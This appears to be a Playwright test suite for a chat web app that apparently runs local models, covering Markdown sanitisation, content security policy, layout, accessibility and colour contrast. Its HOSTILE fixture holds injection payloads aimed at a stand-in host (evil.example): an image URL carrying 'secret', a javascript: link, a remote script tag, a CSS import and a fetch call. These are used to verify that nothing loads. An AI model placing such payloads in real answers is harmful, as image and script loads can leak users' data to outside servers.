import { test as plain } from "@playwright/test";
import { answers, dropFiles, expect, openTiny, questions, test, tinyFile, visit } from "./page.ts";

const HOSTILE = `Look: ![cat](https://evil.example/cat.png?q=secret) and <img src="https://evil.example/2.png">

[click](javascript:alert(1)) [site](https://evil.example/page)

| a |
|--:|
| ![x](https://evil.example/3.png) |

\`\`\`js
fetch("https://evil.example/4")
\`\`\`

<script src="https://evil.example/5.js"></script>
<style>@import url(https://evil.example/6.css);</style>
`;

const conversation = {
  messages: [
    { id: 1, role: "user", content: "Show me" },
    { id: 2, role: "assistant", content: HOSTILE, ending: "stop" },
  ],
};

test("a model's Markdown loads nothing and runs nothing", async ({ page }) => {
  const asked: string[] = [];
  page.on("request", (request) => asked.push(request.url()));
  await visit(page, { conversation });
  const answer = answers(page);
  await expect(answer).toContainText("Look:");
  await page.waitForLoadState("networkidle");
  expect(asked.filter((url) => url.includes("evil.example"))).toEqual([]);
  await expect(answer.locator("img, script, style, iframe, [style], [onerror]")).toHaveCount(0);
  await expect(answer.getByRole("link", { name: "Image: cat" })).toHaveAttribute("rel", /noopener noreferrer/);
  await expect(answer.getByRole("link", { name: "site" })).toHaveAttribute("target", "_blank");
  await expect(answer.getByRole("link", { name: "click" })).toHaveCount(0);
  await expect(answer.locator("td")).toHaveClass("align-right");
});

test("code blocks have their language and a copy button", async ({ page, context }) => {
  await context.grantPermissions(["clipboard-read", "clipboard-write"]);
  await visit(page, { conversation });
  const code = answers(page).locator("figure.code");
  await expect(code.locator("figcaption span")).toHaveText("js");
  await code.getByRole("button", { name: "Copy" }).click();
  await expect(code.getByRole("button")).toHaveText("Copied");
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe('fetch("https://evil.example/4")');
  await page.getByRole("button", { name: "Copy answer" }).click();
  expect(await page.evaluate(() => navigator.clipboard.readText())).toBe(HOSTILE);
});

plain("even an image that got into the page is refused by its policy, in header and document", async ({ page }) => {
  const response = await page.goto("/");
  expect(response?.headers()["content-security-policy"]).toContain("img-src 'self' data: blob:");
  expect(await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute("content")).toContain(
    "object-src 'none'",
  );
  const refused = await page.evaluate(
    () =>
      new Promise<string>((resolve) => {
        document.addEventListener("securitypolicyviolation", (event) => resolve(event.effectiveDirective));
        const image = new Image();
        image.src = "https://evil.example/cat.png";
        document.body.append(image);
      }),
  );
  expect(refused).toBe("img-src");
});

test("the page is cross-origin isolated", async ({ page }) => {
  await visit(page);
  expect(await page.evaluate(() => crossOriginIsolated)).toBe(true);
});

test.describe("on a narrow screen", () => {
  test.use({ viewport: { width: 360, height: 740 } });

  test("nothing scrolls sideways, and the counters fold into a line that opens", async ({ page }) => {
    const overflow = () => page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
    await visit(page);
    await expect(page.getByRole("button", { name: "Choose a file" })).toBeVisible();
    expect(await overflow()).toBe(0);
    await visit(page, { conversation });
    await expect(questions(page)).toBeVisible();
    expect(await overflow()).toBe(0);
    await openTiny(page);
    expect(await overflow()).toBe(0);
    await expect(page.getByRole("complementary")).toBeHidden();
    await page.getByRole("button", { name: "Show counters" }).click();
    await expect(page.getByRole("dialog", { name: "Counters" })).toContainText("KV cache");
    expect(await overflow()).toBe(0);
  });
});

test("every control has a name, every field a label, and the page its landmarks", async ({ page }) => {
  await visit(page, { conversation });
  const nameless = () =>
    page.evaluate(() =>
      [...document.querySelectorAll<HTMLElement>("button, a, input, textarea, select, [role=tab], [role=img], summary")]
        .filter((element) => {
          const labels = (element as HTMLInputElement).labels;
          const name =
            element.getAttribute("aria-label") ||
            element.textContent ||
            (labels && [...labels].map((l) => l.textContent).join());
          return !name?.trim() && element.checkVisibility();
        })
        .map((element) => element.outerHTML),
    );
  expect(await nameless()).toEqual([]);
  await dropFiles(page, [tinyFile]);
  await expect(page.getByRole("complementary")).toBeVisible();
  expect(await nameless()).toEqual([]);
  await page.getByRole("button", { name: "Settings" }).click();
  await page.getByText("Penalties and more").click();
  expect(await nameless()).toEqual([]);
  await page.keyboard.press("Escape");
  await expect(page.getByRole("banner")).toHaveCount(1);
  await expect(page.getByRole("main")).toHaveCount(1);
  await expect(page.locator("h1")).toHaveCount(1);
  expect(await page.evaluate(() => document.documentElement.lang)).toBe("en");
  const ids = await page.evaluate(() => [...document.querySelectorAll("[id]")].map((element) => element.id));
  expect(new Set(ids).size).toBe(ids.length);
});

test.describe("in the dark", () => {
  test.use({ colorScheme: "dark" });

  test("the system's theme is used until the person chooses, and the choice is remembered", async ({ page }) => {
    const ground = () => page.evaluate(() => getComputedStyle(document.body).backgroundColor);
    await visit(page);
    expect(await ground()).toBe("rgb(19, 21, 23)");
    await page.getByRole("button", { name: "Theme: as the system" }).click();
    await page.reload();
    await expect(page.getByRole("button", { name: "Theme: light" })).toBeVisible();
    expect(await ground()).toBe("rgb(247, 247, 245)");
  });
});

test("texts have the contrast that people need, in both themes", async ({ page }) => {
  await visit(page);
  await openTiny(page);
  const pairs = [
    ["--text", "--ground"],
    ["--text-soft", "--ground"],
    ["--text-faint", "--ground"],
    ["--text-faint", "--surface"],
    ["--text-faint", "--raised"],
    ["--text-faint", "--sunken"],
    ["--accent", "--ground"],
    ["--accent", "--accent-soft"],
    ["--accent-text", "--accent"],
    ["--danger", "--danger-soft"],
    ["--text-soft", "--danger-soft"],
  ] as const;
  for (const theme of ["light", "dark"]) {
    const ratios = await page.evaluate(
      ([pairs, theme]) => {
        document.documentElement.dataset.theme = theme;
        const probe = document.body.appendChild(document.createElement("i"));
        const luminance = (name: string) => {
          probe.style.color = `var(${name})`;
          const [r, g, b] = (getComputedStyle(probe).color.match(/\d+/g) ?? [])
            .map((part) => Number(part) / 255)
            .map((c) => (c <= 0.04045 ? c / 12.92 : ((c + 0.055) / 1.055) ** 2.4));
          return 0.2126 * r + 0.7152 * g + 0.0722 * b;
        };
        return pairs.map(([text, ground]) => {
          const [low, high] = [luminance(text), luminance(ground)].sort((a, b) => a - b);
          return [`${text} on ${ground}`, (high + 0.05) / (low + 0.05)] as const;
        });
      },
      [pairs, theme] as const,
    );
    for (const [pair, ratio] of ratios) expect(ratio, `${pair}, ${theme}`).toBeGreaterThanOrEqual(4.5);
  }
});
